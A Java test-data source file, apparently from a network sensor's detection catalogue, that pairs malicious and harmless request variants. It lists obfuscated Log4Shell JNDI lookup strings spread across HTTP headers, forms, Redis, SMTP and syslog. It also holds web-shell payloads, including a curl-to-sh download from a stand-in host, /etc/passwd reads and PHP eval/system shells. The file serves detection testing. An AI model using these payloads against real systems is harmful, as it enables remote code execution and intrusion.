/*
 * Copyright 2026 the Podtap authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.podtap.sensor.notice.catalog;

import static io.podtap.sensor.notice.catalog.Variant.client;
import static io.podtap.sensor.notice.catalog.Variant.harmless;
import static io.podtap.sensor.notice.catalog.Variant.page;
import static io.podtap.sensor.notice.catalog.Variant.request;

import java.util.ArrayList;
import java.util.List;

/** JNDI lookups wherever a logger may see them, and commands that pages execute. */
final class RequestVariants {

  private static final String LOOKUP = "Cluster::JNDI_Lookup";
  private static final String WEB_SHELL = "Cluster::Web_Shell";

  private RequestVariants() {}

  static List<Variant> all() {
    List<Variant> all = new ArrayList<>();
    lookups(all);
    webShells(all);
    return all;
  }

  private static void lookups(List<Variant> all) {
    for (String text :
        List.of(
            "${jndi:ldap://198.51.100.7/a}",
            "${jndi:rmi://198.51.100.7/a}",
            "${jndi:dns://198.51.100.7/a}",
            "${jndi:ldaps://198.51.100.7/a}",
            "${${lower:j}ndi:ldap://198.51.100.7/a}",
            "${${env:X:-j}ndi:ldap://198.51.100.7/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://198.51.100.7/a}",
            "${${sys:none:-j}${date:'n'}di:ldap://198.51.100.7/a}",
            "${jn${env::-}di:ldap://198.51.100.7/a}",
            "${j${k8s:k5:-ND}i:ldap://198.51.100.7/a}",
            "${jndi:ldap://${env:HOSTNAME}.198.51.100.7/a}",
            "${jndi:ldap://[::ffff:c633:6407]:389/a}",
            "${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7/a}")) {
      for (String header : List.of("User-Agent", "X-Forwarded-For", "Referer", "Cookie", "X-Any")) {
        String line = header + ": " + (header.equals("Cookie") ? "a=b; c=" : "") + text + "\r\n";
        all.add(Variant.of(LOOKUP, header + ": " + text, request("GET", "/", line, "")));
      }
      all.add(Variant.of(LOOKUP, "Form: " + text, request("POST", "/f", "", "user=" + text)));
      all.add(
          Variant.of(
              LOOKUP,
              "JSON: " + text,
              request("POST", "/f", "", "{\"a\":{\"b\":\"" + text + "\"}}")));
      all.add(Variant.of(LOOKUP, "path: " + text, request("GET", "/?q=" + text, "", "")));
      all.add(
          Variant.of(
              LOOKUP, "path, escaped: " + text, request("GET", "/?q=" + escaped(text), "", "")));
      all.add(
          Variant.of(
              LOOKUP,
              "form, escaped: " + text,
              request("POST", "/f", "", "user=" + escaped(text))));
    }
    String plain = "${jndi:ldap://198.51.100.7/a}";
    all.add(
        new Variant(
            "a field of Basic authorization",
            List.of(LOOKUP, "Cluster::Clear_Text_Credentials"),
            request(
                "GET",
                "/",
                "Authorization: Basic "
                    + java.util.Base64.getEncoder()
                        .encodeToString(
                            (plain + ":x").getBytes(java.nio.charset.StandardCharsets.US_ASCII))
                    + "\r\n",
                "")));
    all.add(
        Variant.of(
            LOOKUP,
            "a part of a form",
            request(
                "POST",
                "/f",
                "Content-Type: multipart/form-data; boundary=b\r\n",
                "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n"
                    + plain
                    + "\r\n--b--")));
    all.add(Variant.of(LOOKUP, "XML", request("POST", "/f", "", "<a><b>" + plain + "</b></a>")));
    all.add(
        Variant.of(
            LOOKUP,
            "a chunked body",
            client(
                8_080,
                "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1d\r\n"
                    + plain
                    + "\r\n0\r\n\r\n")));
    all.add(
        Variant.of(
            LOOKUP,
            "an argument of Redis",
            client(6_379, "*2\r\n$3\r\nGET\r\n$29\r\n" + plain + "\r\n", "$-1\r\n")));
    all.add(
        Variant.of(
            LOOKUP,
            "a recipient of mail",
            Variant.server(
                25,
                "220 a ESMTP\r\n",
                "HELO a\r\n",
                "250 a\r\n",
                "MAIL FROM:<" + plain + "@a>\r\n",
                "250 ok\r\n")));
    all.add(
        Variant.of(
            LOOKUP,
            "a line of syslog",
            talk -> talk.datagrams(514).client("<13>Jan  1 00:00:00 a app: " + plain)));
    all.add(
        Variant.of(LOOKUP, "a line of an own protocol", client(5_000, "LOGIN " + plain + "\n")));
    all.add(harmless("a template of a shell", request("POST", "/f", "", "{\"a\":\"${HOME}\"}")));
    all.add(
        harmless(
            "a template of a page",
            request("POST", "/f", "", "{\"q\":\"${env:JAVA_HOME} and ${sys:user}\"}")));
    all.add(harmless("a text about it", request("POST", "/f", "", "jndi:ldap is dangerous")));
    all.add(harmless("prices", request("GET", "/?q=%245&b=%24%7Ba%7D", "", "")));
  }

  static String escaped(String text) {
    StringBuilder escaped = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (Character.isLetterOrDigit(c)) {
        escaped.append(c);
      } else {
        escaped.append('%').append(Integer.toHexString(c));
      }
    }
    return escaped.toString();
  }

  private static void webShells(List<Variant> all) {
    for (String query :
        List.of(
            "cmd=id",
            "cmd=whoami",
            "cmd=cat%20/etc/passwd",
            "cmd=cat+/etc/passwd",
            "cmd=%69%64",
            "c=ls%20-la",
            "exec=uname+-a",
            "command=curl%20http://198.51.100.7/x.sh%7Csh",
            "a=1&cmd=wget+http://198.51.100.7/x",
            "pwd=023&i=whoami",
            "cmd=%2Fbin%2Fls",
            "cmd=/usr/bin/id",
            "cmdline=netstat+-an",
            "run=ps+aux",
            "0=id",
            "cmd=powershell+-enc+AAAA",
            "cmd=ipconfig+/all",
            "cmd=nslookup+a.example",
            "cmd=bash+-c+'id'")) {
      all.add(
          Variant.of(
              WEB_SHELL, "parameter " + query, page("/up/x.php?" + query, "text/html", "done")));
    }
    for (String body :
        List.of(
            "cmd=id",
            "cmd=cat%20%2Fetc%2Fpasswd",
            "pass=system('id');",
            "x=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQ",
            "ant=%40ini_set(%22display_errors%22%2C%20%220%22)%3B%40set_time_limit(0)%3B",
            "a=passthru%28%27ls%20-la%27%29%3B",
            "p=%3C%3Fphp%20system%28%24_GET%5B1%5D%29%3B%3F%3E")) {
      all.add(
          Variant.of(
              WEB_SHELL,
              "form " + body,
              request(
                  "POST",
                  "/up/x.php",
                  "Content-Type: application/x-www-form-urlencoded\r\n",
                  body)));
    }
    for (String output :
        List.of(
            "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n",
            "<pre>uid=0(root) gid=0(root)</pre>",
            "root:x:0:0:root:/root:/bin/bash\n",
            "Linux web-1 6.1.0 #1 SMP Debian x86_64 GNU/Linux\n",
            "total 8\ndrwxr-xr-x 2 root root 4096 Jan 1 00:00 .\n")) {
      all.add(
          Variant.of(
              WEB_SHELL, "output " + output.strip(), page("/up/x.php", "text/html", output)));
    }
    all.add(harmless("a command of an API", page("/v1/items?cmd=list&q=5", "text/html", "ok")));
    all.add(harmless("a page called id", page("/v1/items?id=5&c=id5", "text/html", "ok")));
    all.add(harmless("columns", page("/v1/items?fields=id&sort=name", "text/html", "ok")));
    all.add(
        harmless(
            "a form with words",
            request(
                "POST",
                "/f",
                "Content-Type: application/x-www-form-urlencoded\r\n",
                "comment=please+evaluate+the+system+(now)&cmd=save")));
    all.add(
        harmless(
            "a list of users in JSON",
            page("/users", "application/json", "[{\"uid\":1,\"gid\":2}]")));
    all.add(
        harmless(
            "a page about Linux",
            page("/", "text/html", "<html>Linux is for x86_64 and others. total 8 items</html>")));
  }
}
